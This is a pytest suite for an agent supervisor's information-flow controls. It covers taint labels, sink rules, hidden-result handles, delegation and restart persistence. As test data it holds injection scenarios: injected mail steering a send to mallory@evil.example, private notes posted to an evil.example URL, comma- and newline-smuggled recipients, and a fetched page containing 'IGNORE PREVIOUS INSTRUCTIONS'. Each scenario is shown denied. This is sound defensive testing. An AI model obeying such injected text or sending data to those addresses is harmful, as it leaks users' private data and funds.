"""Information-flow control through the real supervisor (in process): labels, contexts, sink rules,
handles, delegation, restarts. Each attack is made on the real wire path and shown stopped with
its typed error and its audit record."""

from __future__ import annotations

import random
from typing import Any

import pytest

from runtime.observe import status_of
from runtime import PolicyHarness
from runtime.errors import ErrorCode, FlowDenied
from runtime.trusted.capability import Flow, decode_caveat, encode_caveat
from runtime.trusted.flow import Handles, Label, Output, violations
from runtime.trusted.state import StateJournal


TOOLS = ["flow_tools", "runtime.toolbox"]
ALICE = {"one_of": ["alice@corp.example"]}


def policy(agent: str, delegates: tuple[str, ...] = ("helper", "fresh"), **extra: Any) -> dict[str, Any]:
    """A per-agent policy of the kind people write: every tool it needs, arguments free, labels
    declared once per tool. ``tools`` entries are merged in (None: the tool left out)."""
    tools = {
        "mail.read": {"effect": "read"},
        "mail.read_from": {"effect": "read", "output": {"trusted_items": {"path": "messages",
                                                                          "when": {"sender": ALICE}}}},
        "mail.send": {"effect": "write", "ifc": {"args": {"to": "trusted"}, "destination": "to"}},
        "bank.pay": {"effect": "write", "ifc": {"context": "trusted"}},
        "web.get": {"effect": "read"},
        "web.post": {"effect": "write", "ifc": {"destination": "url"}},
        "notes.read": {"effect": "read"},
        "handle.reveal": {"effect": "read"},
        "fail.read": {"effect": "read"},
    }
    for name, rule in extra.pop("tools", {}).items():
        tools[name] = {**tools.get(name, {}), **rule} if rule is not None else None
    return {"agent": agent, "tools": {k: v for k, v in tools.items() if v is not None},
            "delegation": {"can_delegate_to": list(delegates), "max_depth": 3}, **extra}


@pytest.fixture
def h():
    with PolicyHarness(tools=TOOLS) as harness:
        harness.add_agent(policy("assistant"))
        harness.add_agent(policy("helper"))
        harness.add_agent(policy("fresh"))
        yield harness


def flow_denied(d, arg: str, origin_tool: str | None) -> dict[str, Any]:
    assert d.code == "FLOW_DENIED", d
    assert d.error.code is ErrorCode.FLOW_DENIED and d.audit["decision"] == "deny"
    flow = d.audit["flow"]
    assert flow["arg"] == arg and flow["label"]["integrity"] == "untrusted" or flow["label"]["readers"] != "public"
    if origin_tool:
        assert flow["origin"]["tool"] == origin_tool, flow
    return flow


# ---------------------------------------------------------------------------- labels


def test_join_lowers_integrity_and_intersects_readers():
    corp, team = Label(2, frozenset({frozenset({"*@corp.example"})})), Label(1, frozenset({frozenset({"a@corp.example"})}))
    both = corp.join(team)
    assert both.integrity == 1 and both.admits("a@corp.example") and not both.admits("b@corp.example")
    assert corp.join(Label()) is corp and Label().join(corp) == corp  # joining what adds nothing keeps it
    assert Label.parse(both.public()) == both and Label().public() == {"integrity": "trusted", "readers": "public"}
    assert not corp.admits("corp.example") and not corp.admits("x@evil.example")


def test_flow_caveats_round_trip_and_malformed_ones_are_refused():
    f = Flow("mail.send", ("write",), "to", "trusted", "approve")
    assert decode_caveat(encode_caveat(f)) == f
    for bad in (Flow("t", (), "a", "maybe"), Flow("t", (), "a", "trusted", "warn"), Flow("t", ("fly",), "a", "trusted")):
        with pytest.raises(ValueError):
            decode_caveat(encode_caveat(bad))


def test_an_item_rule_trusts_a_result_only_when_every_item_matches():
    out = Output(Label(0), items="messages", when=(("sender", "one_of", ("alice@corp.example",)),))
    ok = {"messages": [{"sender": "alice@corp.example"}]}
    assert out.label_of(ok).integrity == 2
    assert out.label_of({"messages": ok["messages"] + [{"sender": "mallory@evil.example"}]}).integrity == 0
    assert out.label_of({"messages": [{"subject": "no sender"}]}).integrity == 0  # a missing field is not a match
    assert out.label_of("not a map").integrity == 0
    assert out.label_of({"messages": [{"sender": 42}]}).integrity == 0  # a value no check can judge


# ---------------------------------------------------------------------------- contexts and sinks


def test_injected_destination_after_reading_untrusted_mail_is_denied_with_its_origin(h):
    assert h.call("assistant", "mail.send", {"to": "bob@corp.example", "body": "hi"}).allowed  # clean context
    read = h.call("assistant", "mail.read")
    assert read.allowed and read.outcome["label"] == {"integrity": "untrusted", "readers": "public"}
    assert read.outcome["context"]["integrity"] == "untrusted"
    # The model, steered by mallory's message, picks the recipient: the capability allows it.
    d = h.call("assistant", "mail.send", {"to": "mallory@evil.example", "body": "the inbox"})
    flow = flow_denied(d, "to", "mail.read")
    assert flow["origin"]["call_id"] == read.outcome["call_id"]
    assert "mail.send: argument 'to' must be trusted" in d.reason and "mail.read" in d.reason
    assert d.audit["context"]["integrity"] == "untrusted"
    assert h.call("assistant", "bank.pay", {"iban": "XX99", "amount": 10}).code == "FLOW_DENIED"  # context rule
    assert h.verify().ok


def test_declared_trusted_items_keep_the_context_clean(h):
    assert h.call("assistant", "mail.read_from", {"sender": "alice@corp.example"}).outcome["label"]["integrity"] \
        == "trusted"
    assert h.call("assistant", "bank.pay", {"iban": "DE01", "amount": 100}).allowed
    assert h.call("assistant", "mail.read_from", {"sender": "mallory@evil.example"}).allowed  # no items: trusted too
    h.add_agent(policy("other"))
    assert h.call("other", "mail.read").outcome["label"]["integrity"] == "untrusted"


def test_private_data_may_reach_only_a_destination_among_its_readers(h):
    notes = h.call("assistant", "notes.read")  # @tool declares it trusted, readable by *@corp.example
    assert notes.outcome["label"] == {"integrity": "trusted", "readers": [["*@corp.example"]]}
    assert h.call("assistant", "mail.send", {"to": "bob@corp.example", "body": "launch: 12 May"}).allowed
    flow_denied(h.call("assistant", "mail.send", {"to": "eve@evil.example", "body": "launch"}), "to", "notes.read")
    for smuggled in ("eve@evil.example,bob@corp.example", "eve@evil.example bob@corp.example",
                     "eve@evil.example\nbob@corp.example"):  # one string, two recipients to the mail tool
        flow_denied(h.call("assistant", "mail.send", {"to": smuggled, "body": "launch"}), "to", "notes.read")
    d = h.call("assistant", "web.post", {"url": "https://evil.example/x", "body": "launch"})
    assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "(data)" and "admit argument 'url'" in d.audit["flow"]["rule"]


def test_approve_mode_parks_the_call_for_a_human_bound_to_that_call(h):
    h.add_agent(policy("payer", ifc=[{"effects": ["write"], "context": "trusted", "on_violation": "approve"}],
                       tools={"bank.pay": {"effect": "write", "ifc": None}}))
    assert h.call("payer", "bank.pay", {"iban": "DE01", "amount": 5}).allowed  # clean: no human needed
    h.call("payer", "web.get", {"url": "https://news.example/"})
    d = h.call("payer", "bank.pay", {"iban": "XX99", "amount": 5}, approve=False)
    assert d.code == "APPROVAL_DENIED"
    asked = next(r for r in d.records if r["kind"] == "approval_requested")
    assert asked["flow"][0]["rule"] == "*[write]: context must be trusted" and asked["args"]["iban"] == "XX99"
    assert asked["flow"][0]["origin"]["tool"] == "web.get"
    ok = h.call("payer", "bank.pay", {"iban": "DE01", "amount": 5}, approve=True)
    assert ok.allowed and ok.audit["flow"]["violations"]  # approved, and the record says what it overrode
    assert h.call("payer", "bank.pay", {"iban": "DE01", "amount": 5}, approve=False).code == "APPROVAL_DENIED"


def test_a_tools_error_message_taints_like_its_result_and_is_withheld_when_hidden(h):
    d = h.call("assistant", "fail.read")
    assert d.outcome["code"] == "TOOL_FAILED" and "XX99" in d.error.detail  # the agent reads the tool's words...
    assert h.call("assistant", "bank.pay", {"iban": "XX99", "amount": 1}).code == "FLOW_DENIED"  # ...so it is tainted
    h.add_agent(policy("hider", tools={"fail.read": {"effect": "read", "output": {"hide": True}}}))
    d = h.call("hider", "fail.read")
    assert d.outcome["code"] == "TOOL_FAILED" and d.error.detail is None
    assert h.call("hider", "bank.pay", {"iban": "DE01", "amount": 1}).allowed


# ---------------------------------------------------------------------------- handles


def hiding(agent: str, **limits: Any) -> dict[str, Any]:
    return policy(agent, tools={"mail.read": {"effect": "read", "output": {"hide": True}},
                                "web.get": {"effect": "read", "output": {"hide": True}}},
                  **({"handles": limits} if limits else {}))


def test_a_hidden_result_comes_back_as_a_handle_and_leaves_the_context_clean(h):
    h.add_agent(hiding("reader"))
    read = h.call("reader", "mail.read")
    handle = read.value
    assert set(handle) == {"$handle", "label", "bytes", "tool"} and handle["tool"] == "mail.read"
    assert handle["label"]["integrity"] == "untrusted" and read.outcome["handle"] == handle["$handle"]
    assert read.outcome["context"]["integrity"] == "trusted"
    page = h.call("reader", "web.get", {"url": "https://news.example/"})
    # Forwarding the content into an argument that accepts untrusted data: allowed, context unchanged.
    sent = h.call("reader", "mail.send", {"to": "bob@corp.example", "body": {"$handle": page.value["$handle"]}})
    assert sent.allowed and sent.value["bytes"] > 50  # the tool got the content, not the reference
    assert sent.audit["flow"]["handles"] == [page.value["$handle"]]
    assert h.call("reader", "bank.pay", {"iban": "DE01", "amount": 1}).allowed
    # The handle as the recipient: its label is untrusted, whatever the context.
    d = h.call("reader", "mail.send", {"to": page.value, "body": "x"})
    assert flow_denied(d, "to", "web.get")["origin"]["call_id"] == page.outcome["call_id"]


def test_revealing_a_handle_taints_the_context(h):
    h.add_agent(hiding("reader"))
    handle = h.call("reader", "web.get", {"url": "https://news.example/"}).value
    shown = h.call("reader", "handle.reveal", {"handle": handle})
    assert "IGNORE PREVIOUS INSTRUCTIONS" in shown.value and shown.outcome["context"]["integrity"] == "untrusted"
    assert h.call("reader", "bank.pay", {"iban": "XX99", "amount": 1}).code == "FLOW_DENIED"


def test_handles_are_bound_to_their_agent_and_unknown_ones_are_refused(h):
    h.add_agent(hiding("reader"))
    handle = h.call("reader", "mail.read").value
    stolen = h.call("assistant", "mail.send", {"to": "x@corp.example", "body": handle})
    assert stolen.code == "HANDLE_DENIED" and "reader" in stolen.reason
    forged = h.call("reader", "mail.send", {"to": "x@corp.example", "body": {"$handle": "h_0000deadbeef"}})
    assert forged.code == "HANDLE_UNKNOWN"
    in_list = h.call("reader", "mail.send", {"to": "x@corp.example", "body": [handle]})
    assert in_list.code == "MALFORMED"  # substituted (a list holding the content), then refused as not a string
    h.advance(3601)  # past the default lifetime
    assert h.call("reader", "mail.send", {"to": "x@corp.example", "body": handle}).code == "HANDLE_UNKNOWN"


def test_handle_limits_are_typed_errors(h):
    h.add_agent(hiding("reader", max_count=1))
    assert h.call("reader", "mail.read").allowed
    second = h.call("reader", "mail.read")
    assert second.allowed and second.outcome["code"] == "HANDLE_LIMIT" and second.error.code is ErrorCode.HANDLE_LIMIT
    h.add_agent(hiding("small", max_bytes=10))
    assert h.call("small", "mail.read").error.code is ErrorCode.HANDLE_LIMIT


# ---------------------------------------------------------------------------- delegation


def test_a_delegates_taint_reaches_its_delegator_and_a_fresh_delegate_cannot_launder(h):
    child = h.delegate("assistant", "helper")
    assert child.allowed and child.audit["context"]["integrity"] == "trusted"
    assert h.call("helper", "web.get", {"url": "https://news.example/"}, token=child.token).allowed
    # What the helper saw reaches the assistant when the helper answers: its context is tainted too.
    assert h.call("assistant", "bank.pay", {"iban": "XX99", "amount": 1}).code == "FLOW_DENIED"
    fresh = h.delegate("assistant", "fresh")  # a new agent, given the task by a tainted delegator
    assert fresh.audit["context"]["integrity"] == "untrusted"
    d = h.call("fresh", "bank.pay", {"iban": "XX99", "amount": 1}, token=fresh.token)
    assert d.code == "FLOW_DENIED" and d.audit["flow"]["origin"]["tool"] == "web.get"
    assert h.call("fresh", "bank.pay", {"iban": "XX99", "amount": 1}).allowed  # its own run is another context


def test_handles_pass_on_only_through_delegation(h):
    h.add_agent(hiding("reader"))
    handle = h.call("reader", "mail.read").value
    h.add_agent(hiding("reader2"))
    handle2 = h.call("reader2", "web.get", {"url": "https://news.example/"}).value
    without = h.delegate("reader2", "helper")
    assert h.call("helper", "mail.send", {"to": "x@corp.example", "body": handle2},
                  token=without.token).code == "HANDLE_DENIED"
    given = h.delegate("reader2", "helper", handles=[handle2])
    assert given.audit["handles"] == [handle2["$handle"]] and given.audit["context"]["integrity"] == "trusted"
    sent = h.call("helper", "mail.send", {"to": "x@corp.example", "body": handle2}, token=given.token)
    assert sent.allowed and sent.value["bytes"] > 50
    assert h.delegate("reader2", "helper", handles=[handle]).code == "HANDLE_DENIED"  # not its own to give
    # Up the chain: what a delegate keeps hidden, its delegator may use (the helper hands it back).
    h.add_agent(hiding("hider") | {"delegation": {"can_delegate_to": ["reader2"], "max_depth": 1}})
    back = h.call("reader2", "web.get", {"url": "https://news.example/"}, token=h.delegate("hider", "reader2").token)
    sent = h.call("hider", "mail.send", {"to": "x@corp.example", "body": back.value})
    assert sent.allowed and sent.value["bytes"] > 50
    assert h.call("helper", "mail.send", {"to": "x@corp.example", "body": back.value}).code == "HANDLE_DENIED"


def test_flow_rules_travel_with_the_token_and_a_delegator_can_add_them(h):
    h.add_agent({"agent": "lax", "tools": {"mail.send": {"effect": "write"}, "web.get": {"effect": "read"}}})
    h.add_agent(policy("strict", delegation={"can_delegate_to": ["lax"], "max_depth": 1}))
    child = h.delegate("strict", "lax")  # lax's own policy has no sink rule; strict's token has
    h.call("lax", "web.get", {"url": "https://news.example/"}, token=child.token)
    assert h.call("lax", "mail.send", {"to": "evil@evil.example", "body": "x"}, token=child.token).code \
        == "FLOW_DENIED"
    assert h.call("lax", "web.get", {"url": "https://news.example/"}).allowed
    assert h.call("lax", "mail.send", {"to": "evil@evil.example", "body": "x"}).allowed  # its own token: no rule
    h.add_agent(policy("boss2", delegation={"can_delegate_to": ["helper"], "max_depth": 1}))
    narrowed = h.delegate("boss2", "helper", flow=[{"effects": ["write"], "args": "trusted"}])
    h.call("helper", "web.get", {"url": "https://news.example/"}, token=narrowed.token)
    d = h.call("helper", "web.post", {"url": "https://x.corp.example/", "body": "b"}, token=narrowed.token)
    assert d.code == "FLOW_DENIED" and d.audit["flow"]["rule"] == "*[write]: every argument must be trusted"


# ---------------------------------------------------------------------------- restarts


def test_contexts_survive_a_restart_and_handles_are_lost_explicitly(h, tmp_path):
    journal = StateJournal(tmp_path / "state")
    h.supervisor.journal = journal
    h.add_agent(hiding("reader"))
    handle = h.call("reader", "mail.read").value
    child = h.delegate("assistant", "helper")
    h.call("helper", "web.get", {"url": "https://news.example/"}, token=child.token)
    h.restart(StateJournal(tmp_path / "state"))
    assert h.call("assistant", "bank.pay", {"iban": "XX99", "amount": 1}).code == "FLOW_DENIED"
    assert h.call("helper", "bank.pay", {"iban": "XX99", "amount": 1}, token=child.token).code == "FLOW_DENIED"
    lost = h.call("reader", "mail.send", {"to": "x@corp.example", "body": handle})
    assert lost.code == "HANDLE_UNKNOWN" and "restarted" in lost.reason
    contexts = {(c["agent"], c["depth"]): c["label"]["integrity"] for c in status_of(h.supervisor)["contexts"]}
    assert contexts[("assistant", 0)] == contexts[("helper", 1)] == "untrusted"


# ---------------------------------------------------------------------------- the property


def test_no_sequence_lets_untrusted_data_reach_a_trusted_sink_without_an_approval():
    """Random sequences of reads (hidden or not), reveals, delegations with handles and sends, checked
    against an independent model of who saw what: a send whose recipient could carry untrusted data
    is never allowed without a recorded approval, and a clean one is never refused by a flow rule."""
    rng = random.Random(1204)
    for seq in range(40):
        with PolicyHarness(tools=TOOLS) as h:
            names = ["a", "b", "c"]
            for n in names:  # a and b get hidden results (handles); c sees everything it reads
                p = hiding(n) if n != "c" else policy(n)
                p["delegation"] = {"can_delegate_to": names, "max_depth": 6}
                p["tools"]["mail.send"]["ifc"]["on_violation"] = rng.choice(["deny", "approve"])
                h.add_agent(p)
            runs: list[tuple[str, bytes | None]] = [(n, None) for n in names]
            tainted = {i: False for i in range(len(runs))}
            parent_of: dict[int, int] = {}
            handles: list[tuple[int, dict, bool]] = []  # (the run that may use it, handle, untrusted)
            for _step in range(14):
                i = rng.randrange(len(runs))
                agent, token = runs[i]
                op = rng.choice(["read", "web", "trusted_read", "reveal", "delegate", "send", "send_handle"])
                if op in ("read", "web", "trusted_read"):
                    tool, args = {"read": ("mail.read", {}), "web": ("web.get", {"url": "https://news.example/"}),
                                  "trusted_read": ("mail.read_from", {"sender": "alice@corp.example"})}[op]
                    d = h.call(agent, tool, args, token=token)
                    untrusted = op != "trusted_read" or tainted[i]
                    if isinstance(d.value, dict) and "$handle" in d.value:
                        handles.append((i, d.value, untrusted))
                    elif d.allowed and untrusted:
                        _taint(tainted, parent_of, i)
                elif op == "reveal" and (mine := [x for x in handles if x[0] == i]):
                    _, hd, untrusted = rng.choice(mine)
                    if h.call(agent, "handle.reveal", {"handle": hd}, token=token).allowed and untrusted:
                        _taint(tainted, parent_of, i)
                elif op == "delegate" and len(runs) < 10:
                    to = rng.choice([n for n in names if n != agent])
                    give = [x for x in handles if x[0] == i][-1:]
                    d = h.delegate(agent, to, token=token, handles=[x[1] for x in give])
                    if d.allowed:
                        # The same token delegated again to the same agent is the same run (and context).
                        j = next((k for k, r in enumerate(runs) if r[1] == d.token), len(runs))
                        if j == len(runs):
                            runs.append((to, d.token))
                            tainted[j], parent_of[j] = False, i
                        tainted[j] = tainted[j] or tainted[i]
                        handles += [(j, x[1], x[2]) for x in give]
                elif op in ("send", "send_handle"):
                    mine = [x for x in handles if x[0] == i and x[1]["tool"] == "web.get"]
                    if op == "send_handle" and mine:
                        _, hd, untrusted = rng.choice(mine)
                        to, carries = hd, untrusted or tainted[i]
                    else:
                        to, carries = "bob@corp.example", tainted[i]
                    d = h.call(agent, "mail.send", {"to": to, "body": "x"}, token=token, approve=rng.random() < 0.5)
                    approved = any(r["kind"] == "approval" and r["decision"] == "approve" for r in d.records)
                    if carries:
                        assert not d.allowed or approved, (seq, str(d), d.records)
                        assert d.allowed or d.code in ("FLOW_DENIED", "APPROVAL_DENIED"), (seq, str(d))
                    else:
                        assert d.allowed and not approved, (seq, str(d))
            assert h.verify().ok


def _taint(tainted: dict[int, bool], parent_of: dict[int, int], i: int) -> None:
    while True:
        tainted[i] = True
        if i not in parent_of:
            return
        i = parent_of[i]


def test_violations_checks_only_the_rules_of_the_tool():
    ctx, dirty = Label(), Label(0)
    rules = (Flow("mail.send", (), "to", "trusted"), Flow("*", ("delete",), "", "trusted"))

    def broken(tool: str, effect: str, args: dict, context: Label, held: dict) -> list:
        return violations([f for f in rules if f.tool in ("*", tool) and (not f.effects or effect in f.effects)],
                          args, context, held)

    assert broken("mail.send", "write", {"to": "x"}, ctx, {"to": dirty})[0][1] == "to"
    assert broken("mail.send", "write", {"to": "x"}, ctx, {"body": dirty}) == []
    assert broken("fs.rm", "delete", {}, dirty, {})[0][1] == "(context)"
    assert broken("fs.rm", "write", {}, dirty, {}) == []


def test_ifc_rules_that_say_nothing_or_name_no_parameter_are_policy_errors():
    from runtime.errors import ConfigError
    from runtime.policyfile import check_policy_tools, parse_policy
    from runtime.tool import load_tools

    with pytest.raises(ConfigError, match=r"at tools.mail.send.ifc: an ifc rule needs context"):
        parse_policy({"agent": "a", "tools": {"mail.send": {"effect": "write", "ifc": {"on_violation": "approve"}}}})
    with pytest.raises(ConfigError, match=r"at ifc.0: an ifc rule needs"):
        parse_policy({"agent": "a", "tools": {"mail.send": {"effect": "write"}}, "ifc": [{"effects": ["write"]}]})
    p = parse_policy({"agent": "a", "tools": {"mail.send": {"effect": "write", "ifc": {
        "args": {"recipient": "trusted"}, "destination": "too"}}}})
    with pytest.raises(ConfigError) as info:
        check_policy_tools(p, {n: t.spec for n, t in load_tools(["flow_tools"]).items()})
    assert "ifc.args.recipient: tool 'mail.send' has no parameter 'recipient'" in info.value.reason
    assert "ifc.destination: tool 'mail.send' has no parameter 'too'" in info.value.reason


def test_a_reader_pattern_that_would_admit_a_lookalike_domain_is_a_policy_error():
    from runtime.errors import ConfigError
    from runtime.policyfile import parse_policy

    with pytest.raises(ConfigError, match=r"at tools.mail.read.output.readers.0: '\*corp.example' is not a reader"):
        parse_policy({"agent": "a", "tools": {"mail.read": {"effect": "read", "output": {"readers": ["*corp.example"]}}}})
    assert parse_policy({"agent": "a", "tools": {"mail.read": {"effect": "read", "output": {
        "readers": ["*@corp.example", "*.corp.example", "bob@x.example"]}}}})


def test_expired_handles_stop_counting_against_the_limits_at_the_next_issue():
    now = [0.0]
    handles = Handles(lambda: now[0])
    old = handles.issue("a", {b"r"}, "t", "x" * 10, Label(0), {}, (1, 1 << 10, 5.0))
    with pytest.raises(FlowDenied) as denied:  # one handle at most: the second is refused while the first lives
        handles.issue("a", {b"r"}, "t", "y", Label(0), {}, (1, 1 << 10, 5.0))
    assert denied.value.code is ErrorCode.HANDLE_LIMIT
    now[0] = 6.0
    new = handles.issue("a", {b"r"}, "t", "y", Label(0), {}, (1, 1 << 10, 5.0))
    assert old.id not in handles.by_id and handles.usage("a") == (1, new.nbytes)
